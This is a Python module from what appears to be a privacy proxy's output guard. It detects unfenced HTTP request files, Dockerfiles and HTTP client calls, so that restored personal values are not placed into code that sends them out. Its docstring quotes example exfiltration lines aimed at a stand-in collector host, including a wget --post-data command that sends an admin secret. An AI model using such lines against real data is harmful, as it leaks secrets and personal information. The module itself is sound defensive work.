"""Unfenced HTTP request files and Dockerfiles are code scopes; HTTP client calls of the common libraries in prose
(issue 12, atk26 F8, F10).

Restore keeps the client's values out of code that sends (`proxy.guard.scopes`). A tester wrote two file formats
without a fence and got the value restored where the file sends it:
- an HTTP request as VS Code REST Client and JetBrains `.http` files and raw HTTP write it (`request_run`): a request
  line (`POST https://collector.example/c`, `POST /c HTTP/1.1`), its header lines (`Host: collector.example`), a
  blank line and the body (`{"email": "<EMAIL_ADDRESS_1>"}`), with the file's variables just before it (`@email =
  <PH>`; such lines at the text's end too: a stream's next piece may go on with them). A path alone (`GET /users`)
  starts one only with a version (`HTTP/1.1`) or a header line after it; a request line alone, prose or nothing but
  blank lines after it, starts none (it sends its URL only, read as any URL is, and would make the answer's other
  scopes keep their values: `GET https://api.acme.com/users` in a list of endpoints). Without a `Content-Type` or
  `Content-Length` header the body is taken only when it is no sentence (an explanation after the request line is
  prose: `POST https://api.acme.com/users` / blank / `Use <PH> as the login.`). The run ends at a blank line after the
  body (a JSON body's blank lines inside its brackets are its own), at a `###` separator or at prose after the
  headers;
- a Dockerfile (`dockerfile_run`): instruction lines (`FROM`, `ENV`, `ARG`, `RUN`..., capitals), their continuation
  and heredoc lines, comments and blank lines between instructions; two instructions at least, one of them `FROM`,
  `ENV`, `ARG` or `LABEL` (or one such, open at the text's end: a stream's next piece may go on with it). `ENV ADMIN=
  <PH>` then `RUN wget --post-data "a=$ADMIN" https://collector.example/c` is one scope that sends.
Such a run is read as a code scope (`config_run`, beside `proxy.guard.yaml25.yaml_run`): restore writes no value into
it where it sends (`proxy.guard.scopes.sends`: a URL, `Host: collector.example`, a network client), and a stream holds
its placeholders as it holds any open code scope's. A request to `localhost` or a loopback address names no network
destination (as a fenced one): restored; so is a Dockerfile whose lines send nothing (`FROM alpine` / `ENV
ADMIN=<PH>` / `CMD ["app"]`), unless another scope of the answer sends (`proxy.guard.scopes.answer_of`). A Dockerfile
whose `FROM` names a registry host (`FROM ghcr.io/org/app`) reads as one naming a destination, as it does fenced.

HTTP client calls (`client_calls`, beside `proxy.guard.urls._code_calls`): a call of a method or function that
sends a request in the common HTTP clients of the common languages (`sendBeacon`, jQuery `$.post`/`$.ajax`, `ky`,
`got`, `superagent`, Angular `this.http.post`, Spring `restTemplate.postForObject`/`WebClient`, OkHttp, Java's
`HttpClient`, .NET `PostAsync`, Ruby `Net::HTTP.post_form`, `HTTParty`, `Faraday`, Go `http.PostForm`, Rust reqwest
and ureq, PHP Guzzle, `wp_remote_post`, Swift `URLSession`, Alamofire, Dart `http.post`, Elixir `HTTPoison`, R `httr`,
Perl LWP...): `_VERBS` after a receiver (`.`, `::`, `->`), or `_FUNCTIONS` alone; the span reaches back over its
receiver chain (`resty.R().SetBody("<PH>").Post(URL)`) and on over the calls chained after it (`client.post(URL)
.body("<PH>").send()`, a Kotlin trailing block), and is kept when its line, from its start to the chain's end, names a
network URL or host literal (`proxy.guard.urls._names_host`; `xhr.open("POST", URL); xhr.send("<PH>")`). A verb as
a word (`post it on the board`, `fetch the report`) is no call: a call's name is followed by `(` at once.
`client_line` tells a stream's line hold (`proxy.guard.linehold.command_line`) that a line calls such a client (a
placeholder before the URL: `$.ajax({data: {e: '<PH>'}, url: URL})`).
"""

from __future__ import annotations

import re

from proxy.guard.yaml25 import yaml_run

_MIDLINE = "\x01"  # `proxy.guard.scopes.MIDLINE` (a stream's kept context cut inside a line)

# ---------------------------------------------------------------------------------------------------- HTTP requests
_METHODS = "GET|POST|PUT|PATCH|DELETE|HEAD|OPTIONS|TRACE|CONNECT|QUERY"
_GATE_METHODS = tuple(m + " " for m in _METHODS.split("|")) + tuple(m + "\t" for m in _METHODS.split("|"))
_REQUEST = re.compile(rf"(?m)^[ \t]*(?P<method>{_METHODS})[ \t]+(?P<target>[^\s]+)"
                      r"(?P<version>[ \t]+HTTP/\d(?:\.\d)?)?[ \t]*\r?$")
# A target: a URL with a scheme, a REST Client variable (`{{host}}/c`), a host with a port or a path; a path.
_URL_TARGET = re.compile(r"(?i)[a-z][\w+.\-]*://[^\s]|\{\{|(?:[\w\-]+\.)+[a-z]{2,63}(?::\d{1,5})?(?:/|$)"
                         r"|[\w.\-]+:\d{1,5}(?:/|$)")
_HEADER = re.compile(r"[ \t]*[A-Za-z0-9!#$%&'*+.^_`|~\-]+[ \t]*:[ \t]*[^\n]*\r?$")
_QUERY_LINE = re.compile(r"[ \t]+[?&][^\n]*\r?$")  # REST Client's query parameters on their own lines
_COMMENT = re.compile(r"[ \t]*(?:#|//)")
_SEPARATOR = re.compile(r"[ \t]*###")
_VARIABLE = re.compile(r"[ \t]*@[A-Za-z_][\w.\-]*[ \t]*=[^\n]*\r?$")  # `@email = <PH>`
# A stream's last line, not ended, that may still become a request line (`PO`, `POST h`).
_PARTIAL_REQUEST = re.compile(rf"[ \t]*(?:[A-Z]{{1,7}}|(?:{_METHODS})[ \t]+[^\s]*)")
_CONTENT = re.compile(r"(?i)[ \t]*content-(?:type|length)[ \t]*:")
# A sentence: a capitalised word, then another (an explanation after a request line, not its body).
_SENTENCE = re.compile(r"[ \t]*[A-Z][a-z']*[,:]?[ \t]+[^\s]")
# A stream's last line, not ended, that may still become a sentence (`U`, `Use `): no body yet.
_SENTENCE_START = re.compile(r"[ \t]*[A-Z][a-z']*[,:]?[ \t]*\r?")


def _line(text: str, at: int) -> tuple[str, int]:
    eol = text.find("\n", at)
    return (text[at:], len(text)) if eol < 0 else (text[at:eol], eol)


def _depth(line: str, depth: int) -> int:
    """`depth` after the brackets of `line` (quoted strings passed over)."""
    quote = ""
    prev = ""
    for c in line:
        if quote:
            if c == quote and prev != "\\":
                quote = ""
        elif c in "\"'":
            quote = c
        elif c in "{[(":
            depth += 1
        elif c in "}])":
            depth -= 1
        prev = c
    return depth


def request_run(text: str, pos: int) -> tuple[int, int, int] | None:
    """(start, end of its request line, end) of the first unfenced HTTP request (see the module) at or after `pos`."""
    if not any(m in text for m in _GATE_METHODS):
        return _open_variables(text, pos) if "@" in text else None
    n = len(text)
    for m in _REQUEST.finditer(text, pos):
        head_end = m.end()
        nxt, _ = _line(text, head_end + 1) if head_end < n else ("", n)
        if _URL_TARGET.match(m.group("target")) is None:
            if not m.group("target").startswith("/"):
                continue
            if m.group("version") is None and _HEADER.match(nxt) is None and \
                    not (head_end + 1 >= n or (text.find("\n", head_end + 1) < 0 and not nxt.strip())):
                continue  # (`GET /users` alone: a path named in prose; at a stream's end it may go on)
        start, end = _extend_back(text, pos, m.start()), _request_end(text, m, head_end)
        if start == m.start() and end < n and not text[head_end:end].strip():
            continue  # (a request line alone, ended: it sends nothing but its URL, read as any URL is)
        return start, head_end, end
    return _open_variables(text, pos) if "@" in text else None


def _open_variables(text: str, pos: int) -> tuple[int, int, int] | None:
    """A file's variable lines (`@email = <PH>`) at the text's end, blank and comment lines only after them (a stream's
    next piece may write the request that reads them), if any, from `pos`."""
    at = len(text)
    start = -1
    for line in reversed(text[pos:].split("\n")):
        at -= len(line) + 1
        if _VARIABLE.match(line):
            start = at + 1
        elif line.strip(" \t\r") and not (_SEPARATOR.match(line) or _COMMENT.match(line) or
                                           (at + 1 + len(line) == len(text) and _PARTIAL_REQUEST.fullmatch(line))):
            break
    if start < 0:
        return None
    return start, _line(text, start)[1], len(text)


def _extend_back(text: str, pos: int, start: int) -> int:
    """The start of the file's variables and separators just before a request line, blank and comment lines between
    them (a comment line alone only right above it: a Markdown heading a blank line above is prose)."""
    best = cur = start
    adjacent = True
    while cur > pos and text[cur - 1] == "\n":
        prev = text.rfind("\n", 0, cur - 1) + 1
        crossed = False
        while prev > pos and not text[prev:cur - 1].strip(" \t\r"):  # blank lines
            prev = text.rfind("\n", 0, prev - 1) + 1
            crossed = True
        if prev < pos:
            break
        line = text[prev:text.find("\n", prev)]
        if _VARIABLE.match(line) or _SEPARATOR.match(line):
            best = cur = prev
            adjacent = True
        elif _COMMENT.match(line):
            adjacent = adjacent and not crossed
            cur = prev
            if adjacent:
                best = prev
        else:
            break
    return best


def _request_end(text: str, m: re.Match[str], head_end: int) -> int:
    n = len(text)
    if head_end >= n:
        return n
    takes_body = False  # (a `Content-Type` or `Content-Length` header: whatever follows the blank line is the body)
    state = "headers"  # then "unknown" (after a stream's cut), "blank" (a blank line after headers), "body"
    depth = 0
    at = head_end + 1
    while at < n:
        line, eol = _line(text, at)
        blank = not line.strip(" \t\r")
        if _SEPARATOR.match(line) or (not blank and _REQUEST.match(line)):
            return at
        if line.startswith(_MIDLINE):
            state = "unknown" if state in ("headers", "unknown") else state
        elif state in ("headers", "unknown"):
            if blank:
                state = "blank"
            elif _CONTENT.match(line):
                takes_body = True
            elif _HEADER.match(line) is None and _QUERY_LINE.match(line) is None and _COMMENT.match(line) is None:
                if state == "headers":
                    return at  # prose after the request line and its headers
                state = "body"
                depth = _depth(line, 0)
        elif state == "blank":
            if not blank:
                if not takes_body and (_SENTENCE.match(line) is not None or
                                       (eol >= n and _SENTENCE_START.fullmatch(line) is not None)):
                    return at  # an explanation, no body (a stream's next piece tells a line that may be one)
                state = "body"
                depth = _depth(line, 0)
        else:  # the body: to a blank line outside its brackets
            if blank and depth <= 0:
                return at
            depth = _depth(line, depth)
        if eol >= n:
            return n
        at = eol + 1
    return n


# ------------------------------------------------------------------------------------------------------ Dockerfiles
_INSTRUCTIONS = ("FROM|RUN|CMD|LABEL|MAINTAINER|EXPOSE|ENV|ADD|COPY|ENTRYPOINT|VOLUME|USER|WORKDIR|ARG|ONBUILD"
                 "|STOPSIGNAL|HEALTHCHECK|SHELL")
_GATE_DOCKER = ("FROM ", "ENV ", "ARG ", "LABEL ", "ENV\t", "ARG\t")
_INSTRUCTION = re.compile(rf"(?m)^[ \t]*({_INSTRUCTIONS})[ \t]+[^\s]")
_PARTIAL_INSTRUCTION = re.compile(rf"[ \t]*(?:[A-Z]{{1,11}}|(?:{_INSTRUCTIONS})[ \t]*)")
_SETS = frozenset(("FROM", "ENV", "ARG", "LABEL"))
_HEREDOC = re.compile(r"<<-?[ \t]*([\"']?)([A-Za-z_][\w.\-]{0,31})\1")


def dockerfile_run(text: str, pos: int) -> tuple[int, int, int] | None:
    """(start, end of its first line, end) of the first unfenced Dockerfile (see the module) at or after `pos`."""
    if not any(g in text for g in _GATE_DOCKER):
        return None
    n = len(text)
    at = pos
    while True:
        m = _INSTRUCTION.search(text, at)
        if m is None:
            return None
        start = m.start()
        first_end = _line(text, start)[1]
        end, kinds = _docker_end(text, start)
        if (len(kinds) >= 2 and not _SETS.isdisjoint(kinds)) or (end == n and kinds[0] in _SETS):
            return start, first_end, end
        at = max(end, first_end + 1)
        if at >= n:
            return None


def _docker_end(text: str, start: int) -> tuple[int, list[str]]:
    """Where the Dockerfile's lines from `start` end (the text's end if they reach it), and its instructions."""
    n = len(text)
    kinds: list[str] = []
    at = start
    continued = False
    heredoc = ""
    last = start  # the end of its last line (blank lines after it are not its own)
    while at < n:
        line, eol = _line(text, at)
        body = line.rstrip("\r")
        if heredoc:
            if body.strip() == heredoc:
                heredoc = ""
        elif continued or line.startswith(_MIDLINE):
            pass
        elif not body.strip(" \t"):
            if eol >= n:
                return n, kinds
            at = eol + 1
            continue  # (a blank line: its own only if an instruction or a comment follows)
        elif _COMMENT.match(body) is None or body.lstrip().startswith("//"):
            im = _INSTRUCTION.match(body)
            if im is None:
                if eol >= n and _PARTIAL_INSTRUCTION.fullmatch(body):
                    return n, kinds  # (a stream's next piece may end an instruction's name: `R`, `RUN `)
                return (last + 1 if last < n else n), kinds
            kinds.append(im.group(1))
            h = _HEREDOC.search(body)
            if h is not None:
                heredoc = h.group(2)
        if not heredoc:
            continued = body.rstrip(" \t").endswith("\\")
        last = eol
        if eol >= n:
            return n, kinds
        at = eol + 1
    return n, kinds


def config_run(text: str, pos: int) -> tuple[int, int, int] | None:
    """The first of an unfenced YAML configuration (`proxy.guard.yaml25.yaml_run`), HTTP request (`request_run`) or
    Dockerfile (`dockerfile_run`) at or after `pos`, if any."""
    from proxy.guard.rest37 import first  # (rest37: messages, invitations, fetching formulas; atk37 F13, F19)
    from proxy.guard.rst41 import first as acme_config  # (rst41: ACME configs, atk41 F02)

    runs = [r for r in (yaml_run(text, pos), request_run(text, pos), dockerfile_run(text, pos), first(text, pos),
                        acme_config(text, pos)) if r is not None]
    return min(runs) if runs else None


# ------------------------------------------------------------------------------------------------ HTTP client calls
# A method that sends a request (after a receiver: `.`, `::`, `->`, `?.`), its variants: `postForObject`,
# `post_form`, `PostForm`, `PostAsync`, `PostAsJsonAsync`, `send_string`, `getJSON`, `sendBeacon`, `dataTask`...
_VERBS = (r"(?:post|put|patch|get|delete|request|send|fetch|upload|exchange|perform)"
          r"(?:_?(?:for_?(?:object|entity|location)|form|json|string|values|data|file|bytes|body|raw|with_?response"
          r"|as_?json|as_?string|beacon|task|to_?string|all|to|mail|message)){0,2}(?:_?async)?!?"
          r"|ajax|getJSON|sendBeacon|dataTask|uploadTask|downloadTask|urlopen")
# A function that sends one, called alone: `fetch(`, `ky(`, `got(`, `axios(`, `superagent(`, `needle(`,
# `request(`, `urlopen(`, WordPress's `wp_remote_post(`, R httr's `POST(`, PHP's `file_get_contents(`...
_FUNCTIONS = (r"fetch|ofetch|\$fetch|useFetch|wretch|ky|got|axios|superagent|needle|request|urlopen|sendBeacon"
              r"|wp_(?:safe_)?remote_(?:post|get|request|head)|file_get_contents|curl_init|http_post_(?:data|fields)"
              r"|POST|PUT|PATCH|GET|DELETE|req_perform|URLRequest|HttpRequest|WebSocket|EventSource")
_CALL = re.compile(rf"(?:(?:\.|::|->|\?\.)[ \t]*(?i:{_VERBS})|(?<![\w$.:>])(?:{_FUNCTIONS}))\Z")
_CALL_BACK = 40
_GATE_CALL = re.compile(rf"(?:\.|::|->)[ \t]*(?i:{_VERBS})\(|(?<![\w$.:>])(?:{_FUNCTIONS})\(")
_LINK = re.compile(r"[ \t]*(?:\r?\n[ \t]*)?(?:[?!][ \t]*)?(?:\.|::|->|\?\.)[ \t]*[A-Za-z_$][\w$]*!?(?:::<[^<>()\n]*>)?")
_TRAILING = re.compile(r"[ \t]*\{")  # a Kotlin/Swift trailing block after the call (`post(URL) { setBody(...) }`)
_READ = 2048  # the characters of a call's chain read


def _close(text: str, pos: int, open_: str) -> int:
    """The end of the bracket opened before `pos` (quoted strings passed over), or the text's end."""
    close = {"(": ")", "{": "}", "[": "]"}[open_]
    depth, k, n = 1, pos, min(len(text), pos + _READ)
    while k < n:
        c = text[k]
        if c == "\\" and text[k + 1:k + 2] in ("\"", "'"):  # a JSON text's escaped quote: to the next one
            j = text.find(text[k:k + 2], k + 2)
            if j < 0 or j >= n:
                return len(text)
            k = j + 2
            continue
        if c in "\"'`":
            j = text.find(c, k + 1)
            while j > 0 and text[j - 1] == "\\" and text[j - 2:j] != "\\\\":
                j = text.find(c, j + 1)
            if j < 0 or j >= n:
                return len(text)
            k = j + 1
            continue
        if c == open_:
            depth += 1
        elif c == close:
            depth -= 1
            if depth == 0:
                return k + 1
        k += 1
    return len(text) if n == len(text) else n


def _chain_end(text: str, end: int) -> int:
    """The end of the calls chained after a call ending at `end` (`.body("<PH>").send()`, `.await?`, a trailing
    block); the text's end where it ends in the chain (a stream's next piece may go on with it)."""
    n = len(text)
    while end < n:
        if not text[end:].strip(" \t\r\n.?!:->"):
            return n  # (the text ends here: the chain may go on)
        b = _TRAILING.match(text, end)
        if b is not None:
            end = _close(text, b.end(), "{")
            continue
        m = _LINK.match(text, end)
        if m is None:
            return end
        end = m.end()
        if text.startswith("(", end):
            end = _close(text, end + 1, "(")
    return n


def _receiver_start(text: str, start: int, floor: int) -> int:
    """The start of the receiver chain before a call's name at `start` (`new Request.Builder().url(URL)`,
    `this.http`, `Net::HTTP`, `resty.R().SetBody(...)`)."""
    k = start
    while k > floor:
        c = text[k - 1]
        if c.isalnum() or c in "_$.:>-!?":
            if c == ">" and text[k - 2:k] != "->":
                break
            if c == "-" and text[k:k + 1] != ">":
                break
            k -= 1
        elif c in ")]":
            depth, j = 0, k - 1
            while j >= floor:
                if text[j] in ")]":
                    depth += 1
                elif text[j] in "([":
                    depth -= 1
                    if depth == 0:
                        break
                j -= 1
            if j < floor:
                break
            k = j
        else:
            break
    if text[max(floor, k - 4):k] == "new ":
        k -= 4
    return k


def client_calls(text: str) -> list[tuple[int, int, int, str]]:
    """(start, end of its name, end, "") of each HTTP client call of `text` (see the module) whose line, from its start
    to the chain's end, names a network URL or host literal."""
    if "(" not in text or _GATE_CALL.search(text) is None:
        return []
    from proxy.guard.urls import _names_host

    out: list[tuple[int, int, int, str]] = []
    k = text.find("(")
    while k >= 0:
        if k > 0 and (text[k - 1].isalnum() or text[k - 1] in "_$!"):
            m = _CALL.search(text, max(0, k - _CALL_BACK), k)
            if m is not None:
                escaped = text.rfind("\\n", 0, m.start())  # (its line: a JSON text's `\n` ends one too)
                line = max(text.rfind("\n", 0, m.start()) + 1, text.rfind("`", 0, m.start()) + 1,
                           escaped + 2 if escaped >= 0 else 0)
                start = _receiver_start(text, m.start(), line)
                end = _chain_end(text, _close(text, k + 1, "("))
                if _names_host(text[line:end]):
                    out.append((start, k + 1, end, ""))
        k = text.find("(", k + 1)
    return out


_LINE_CALL = re.compile(rf"(?:\.|::|->|\?\.)[ \t]*(?i:{_VERBS})[ \t]*\(|(?<![\w$.:>])(?:{_FUNCTIONS})\(")


# A request builder's body (`resty.R().SetBody(<PH>)`, `.body(`, `.json(`, `.send_string(`): the call may come after.
_BODY_CALL = re.compile(r"(?:\.|::|->)[ \t]*(?i:set_?body|body(?:_?value)?|json|form|set_?form_?data|data|payload"
                        r"|multipart|send_?(?:string|json|form|bytes))[ \t]*\(")


def client_line(head: str) -> bool:
    """Whether a line's `head` (its start, to a placeholder) calls an HTTP client or a request builder's body (see
    the module)."""
    return "(" in head and (_LINE_CALL.search(head) is not None or _BODY_CALL.search(head) is not None)
